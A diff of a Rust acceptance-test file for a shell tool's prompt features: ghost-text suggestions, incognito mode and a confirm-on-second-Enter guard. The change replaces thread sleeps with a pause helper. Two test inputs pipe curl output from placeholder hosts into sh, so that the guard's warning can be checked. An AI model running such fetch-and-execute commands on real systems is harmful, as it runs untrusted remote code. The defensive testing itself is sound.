@@ -2,6 +2,7 @@
 //! What is typed at a prompt: ghost text, picking, incognito, pastes, and what the guard asks.
 
 use super::screen::{Screen, Setting, has};
+use palisade_acceptance::patience::pause;
 use std::time::Duration;
 
 /// A shell whose history has some lines.
@@ -15,7 +16,7 @@ fn with_history(shell: &str, start: &str) -> Setting {
 /// With the history read: that is done in the background, and put in place within a second or so of activity.
 fn ready(setting: Setting) -> Screen {
     let mut screen = setting.ready();
-    std::thread::sleep(Duration::from_millis(1200));
+    pause(Duration::from_millis(1200));
     screen.look();
     screen
 }
@@ -110,7 +111,7 @@ fn it_stands_behind_a_fancy_prompt() {
         }
         let mut screen = with_history(shell, start).start();
         screen.wait_for("└─▶ $");
-        std::thread::sleep(Duration::from_millis(1200));
+        pause(Duration::from_millis(1200));
         screen.slowly("git");
         screen.wait_until("the ghost right behind", |screen| {
             screen.contents().contains("└─▶ $ git status --short")
@@ -211,7 +212,7 @@ fn what_fails_and_where_is_kept_in_the_store() {
         screen.wait_for_last("$");
         screen.slowly("false kept");
         screen.keys("\r");
-        std::thread::sleep(Duration::from_millis(500));
+        pause(Duration::from_millis(500));
         screen.line("exit 0");
         screen.end();
         let store = rusqlite_text(&screen, "history.sqlite");
@@ -245,7 +246,7 @@ fn incognito_lines_are_nowhere() {
         // What incognito is may still be said below.
         screen.wait_for_line("$");
         screen.slowly("echo h");
-        std::thread::sleep(Duration::from_millis(100));
+        pause(Duration::from_millis(100));
         assert!(!screen.text().contains("$ echo hidden-2\nhidden-2\n$ echo hidden-2"), "{}", screen.text());
         screen.keys("\x15");
         screen.line("exit");
@@ -307,13 +308,13 @@ fn it_runs_at_a_second_enter() {
         screen.slowly("curl -s http://never.invalid/x | sh; echo ran");
         screen.keys("\r");
         screen.wait_for("Enter again");
-        std::thread::sleep(Duration::from_millis(400));
+        pause(Duration::from_millis(400));
         screen.keys("\r");
         screen.wait_for_line("ran");
         // The question is gone.
         screen.wait_for_line("$");
         let after = screen.raw().len();
-        std::thread::sleep(Duration::from_millis(300));
+        pause(Duration::from_millis(300));
         let raw = screen.raw();
         let ran = raw.windows(6).rposition(|bytes| bytes == b"\r\nran\r").unwrap_or(after);
         assert!(!String::from_utf8_lossy(&raw[ran..]).contains("Enter again"), "{shell}: {}", screen.text());
@@ -338,13 +339,13 @@ fn a_dangerous_line_from_the_shells_own_history_is_asked_about_too() {
 fn settings_are_read_again_and_bad_ones_change_nothing() {
     let mut screen = ready(with_history("bash", "").file(".config/palisade/shell.toml", "schema = 1\n"));
     std::fs::write(screen.path(".config/palisade/shell.toml"), "schema = 1\n[gohst]\nfrom = 1\n").unwrap();
-    std::thread::sleep(Duration::from_millis(1200));
+    pause(Duration::from_millis(1200));
     screen.keys("e");
     screen.wait_for("did you mean `ghost`?");
     screen.slowly("cho th");
     wait_for_ghost(&mut screen, "e quick brown fox");
     std::fs::write(screen.path(".config/palisade/shell.toml"), "schema = 1\n[ghost]\nfrom = 30\n").unwrap();
-    std::thread::sleep(Duration::from_millis(1200));
+    pause(Duration::from_millis(1200));
     screen.slowly("e");
     screen.wait_for("the settings are read again");
     screen.slowly(" q");
@@ -421,7 +422,7 @@ fn an_enter_that_runs_nothing_is_no_end_of_the_line() {
         screen.keys("\t");
         screen.wait_for("$ echo dir/first-1");
         screen.keys("\r");
-        std::thread::sleep(Duration::from_millis(1000));
+        pause(Duration::from_millis(1000));
         screen.slowly(" && curl -s https://a.example/b | sh");
         screen.keys("\r");
         screen.wait_for("Enter again");
@@ -464,7 +465,7 @@ fn a_question_of_the_shells_is_the_users_to_answer() {
     screen.keys("\t");
     screen.wait_for("do you wish to see all 9 possibilities");
     // Nobody reads and answers sooner.
-    std::thread::sleep(Duration::from_millis(400));
+    pause(Duration::from_millis(400));
     screen.keys("\r");
     screen.wait_until("line alone", |screen| screen.contents().trim_end().ends_with("$ echo dir/file-"));
     screen.slowly("7");
@@ -490,7 +491,7 @@ fn what_was_confirmed_and_what_is_suggested_outlast_other_settings() {
     let mut screen = ready(with_history("bash", "").file(".config/palisade/shell.toml", &settings(3)));
     screen.line("echo one-1 two''words");
     screen.wait_for("Enter again");
-    std::thread::sleep(Duration::from_millis(400));
+    pause(Duration::from_millis(400));
     screen.keys("\r");
     screen.wait_for_line("one-1 twowords");
     std::fs::write(screen.path(".config/palisade/shell.toml"), settings(2)).unwrap();
